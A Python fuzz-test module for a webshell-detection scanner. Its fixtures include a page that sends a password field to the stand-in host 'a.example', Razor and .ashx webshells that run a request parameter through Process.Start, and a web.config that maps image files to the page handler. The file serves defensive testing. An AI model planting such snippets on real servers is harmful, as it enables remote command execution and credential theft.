"""Whole files, end to end: their views, rules and evaluator; and how a page is split into its parts."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from functools import partial
from unittest.mock import patch

from tests.analysis.test_semantics import TABLE, page
from tests.builders.inert import live
from tests.fuzz.door import Door
from tests.fuzz.doors.code import WORDS_OF
from webshellhunt.decoding.script_encoder import iter_encoded
from webshellhunt.errors import WebShellHuntError
from webshellhunt.fence import Fence
from webshellhunt.model.artifact import Artifact
from webshellhunt.model.limits import Job
from webshellhunt.model.places import Role
from webshellhunt.model.settings import PageKind, PageSettings
from webshellhunt.pages.parser import has_server_code, parse
from webshellhunt.scan.scanner import examine_bytes

_PAGE_WORDS = [
    live(each).encode()
    for each in (
        "<\x25",
        "\x25>",
        "<\x25=",
        "<\x25#",
        "<\x25:",
        "<\x25$",
        "<\x25@ Page ",
        "<\x25@ Language=",
        "<\x25@ WebHandler ",
        "<\x25@ Import Namespace=",
        "<\x25@ Assembly Name=",
        "<\x25@ Register ",
        "<\x25--",
        "--\x25>",
        "<script runat=server>",
        '<script runat="server" language="JScript">',
        "</script>",
        "<!-- #include file=",
        "-->",
        "<asp:TextBox runat=server ",
        "<object runat=server progid=",
        "Req·uest",
        "Req·uest.Form",
        "Ses·sion",
        "Resp·onse.Write",
        "Ex·ecute",
        "ev·al(",
        "Pro·cess.Start(",
        "@{",
        "@(",
        "@functions{",
        "#@~^",
        "==^#~@",
        "\\u0065",
        "&#101;",
        "+AGU-",
        "%65",
    )
]
_FEW = 25
_STATIC = (
    '<html><body onload="f()"><form><input type="password" name="p"><script>var p = document.forms[0].p.value;'
    'fetch("//a.example/?" + p)</script><iframe src="x"></iframe></form></body></html>'
)
_RAZOR = '@page\n@using System.Diagn·ostics\n@{ var x = Req·uest["k"]; Pro·cess.Start(x); }\n<p>@Html.Raw(x)</p>'
_HANDLER = '<\x25@ WebHandler Language="C#" Class="H" \x25>\nusing System.Web;\npublic class H : IHttpHandler {\n' \
    'public void ProcessRequest(HttpContext c) { System.Diagn·ostics.Pro·cess.Start(c.Req·uest["k"]); }\n' \
    'public bool IsReusable { get { return false; } } }'  # fmt: skip
_CONFIG = (
    '<configuration><system.webServer><handlers><add name="x" path="*.png" verb="*" '
    'type="System.Web.UI.PageHandler·Factory"/></handlers><modules><add name="m" type="A.B, C"/></modules>'
    '</system.webServer><location path="a"><system.web><compilation><buildProviders><add extension=".txt" '
    'type="System.Web.Compilation.PageBuild·Provider"/></buildProviders></compilation></system.web></location>'
    "<connectionStrings><add name='a' connectionString='Server=a;Password=b'/></connectionStrings></configuration>"
)


def _raise(_fence: Fence, view: str, error: Exception, plug_in: str = "") -> None:
    """Do not fence a crash, unless it is an error of our own."""
    if not isinstance(error, WebShellHuntError):
        raise error


def examined(path: str, data: bytes, job: Job | None = None) -> object:
    """Return what the examination of a file finds, without the fence."""
    artifact = Artifact(path.rpartition("\\")[2], path, Role.WWWROOT, len(data))
    with patch.object(Fence, "add_crash", _raise):
        found = examine_bytes(data, artifact, job or Job())
    findings = [(each.rule.id, each.message, each.evidence) for each in found.findings]
    return findings, found.gaps


def _table(language: str) -> Iterator[bytes]:
    programs = sorted(TABLE[language], key=lambda each: -len(str(each["code"])))
    for program in programs[:_FEW]:
        yield page(language, program)[0]


def _text(*texts: str) -> Iterable[bytes]:
    return [live(each).encode() for each in texts]


def _split(data: bytes) -> object:
    text = data.decode("utf-8", "replace")
    settings = PageSettings()
    found = []
    for kind in PageKind:
        made = parse(text, kind, settings)
        assert all(0 <= each.start <= each.end <= len(text) for each in made.blocks)
        found.append((len(made.blocks), len(made.directives), len(made.dependencies), has_server_code(text, kind)))
    return found, [(each.start, each.end, each.checksum_valid) for each in iter_encoded(text)]


def _pages(*languages: str) -> Iterator[bytes]:
    for language in languages:
        yield from list(_table(language))[:8]
    yield from _text(
        _STATIC, _RAZOR, _HANDLER, '<object runat="server" id="a" progid="b"></object><!--#include file="c"-->'
    )


_PROGRAMS = {
    "csharp": "x.aspx",
    "vbnet": "x.aspx",
    "jscript": "x.aspx",
    "vbscript": "x.asp",
    "jscript_classic": "x.asp",
    "php": "x.php",
}
_OTHERS = {
    "razor": ("x.cshtml", _RAZOR),
    "handler": ("x.ashx", _HANDLER),
    "static": ("x.html", _STATIC),
    "config": ("web.config", _CONFIG),
}


def _end_to_end(name: str, seeds: Callable[[], Iterable[bytes]], file: str, words: list[bytes]) -> Door:
    # The evaluator has a budget of its own, which a page of any size may spend.
    return Door(
        f"page-{name.replace('_', '-')}",
        seeds,
        partial(examined, f"C:\\inetpub\\wwwroot\\{file}"),
        ("analysis", "core", "lower", "library", "detectors", "views"),
        [*_PAGE_WORDS, *words],
        steps=60_000,
        first_steps=60_000_000,
        shown=4_000,
        first_shown=400_000,
        most_bytes=2_048,
    )


DOORS = (
    Door("split", partial(_pages, "csharp", "vbscript"), _split, ("pages",), _PAGE_WORDS, steps=20_000),
    *(
        _end_to_end(name, partial(_table, name), file, WORDS_OF.get(name, WORDS_OF["jscript"]))
        for name, file in _PROGRAMS.items()
    ),
    *(_end_to_end(name, partial(_text, text), file, WORDS_OF["csharp"]) for name, (file, text) in _OTHERS.items()),
)
